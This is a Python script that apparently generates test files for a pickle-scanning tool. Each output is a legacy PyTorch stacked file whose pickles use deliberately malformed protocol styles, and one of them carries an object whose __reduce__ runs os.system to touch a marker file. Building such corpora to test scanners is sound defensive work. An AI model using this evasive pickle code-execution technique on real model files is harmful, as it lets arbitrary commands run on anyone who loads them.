# SPDX-License-Identifier: Apache-2.0
import pickle, struct, random, os, sys
# usage: gen_stack.py OUT N SEED: legacy torch stacked files, each of the five
# pickles written in a random style (protocols 0-4, PROTO stripped or
# misplaced, a frame with bytes after STOP), the payload in one of them.


class Evil:
    def __reduce__(self):
        return (os.system, ('touch "$PWN"',))


out = sys.argv[1]
os.makedirs(out, exist_ok=True)
rng = random.Random(int(sys.argv[3]) if len(sys.argv) > 3 else 3)
objs = [0x1950a86a20f9469cfc6c, 1001, {'protocol_version': 1001, 'little_endian': True}, {'w': [1.0, 2.0]}, ['0', '1']]
def enc(obj, style, evil):
    o = [obj, Evil()] if evil else obj
    if style in (0, 1):
        return pickle.dumps(o, style)
    if style in (2, 3):
        return pickle.dumps(o, style)
    b = pickle.dumps(o, 4)  # framed if >= 4 bytes
    if style == 4: return b
    if style == 5:  # strip PROTO
        return b[2:]
    if style == 6:  # protocol 2 without PROTO
        return pickle.dumps(o, 2)[2:]
    if style == 7:  # frame with tail junk inside the frame
        body = pickle.dumps(o, 4)[2:]
        if body[:1] == b'\x95': body = body[9:]
        tail = bytes([rng.randrange(256) for _ in range(rng.randint(1, 6))])
        return b'\x80\x04\x95' + struct.pack('<Q', len(body) + len(tail)) + body + tail
    if style == 8:  # PROTO misplaced (after first opcode)
        b2 = pickle.dumps(o, 2)
        return b2[2:3] + b'\x80\x02' + b2[3:]
for i in range(int(sys.argv[2])):
    evil_at = rng.randrange(1, 5)
    parts = []
    for k, obj in enumerate(objs):
        parts.append(enc(obj, rng.randrange(9), k == evil_at))
    raw = struct.pack('<q', 4) + b'\0' * 4 + struct.pack('<q', 2) + b'\0' * 2
    open(f'{out}/legstack-s{i:05d}.pt', 'wb').write(b''.join(parts) + raw)
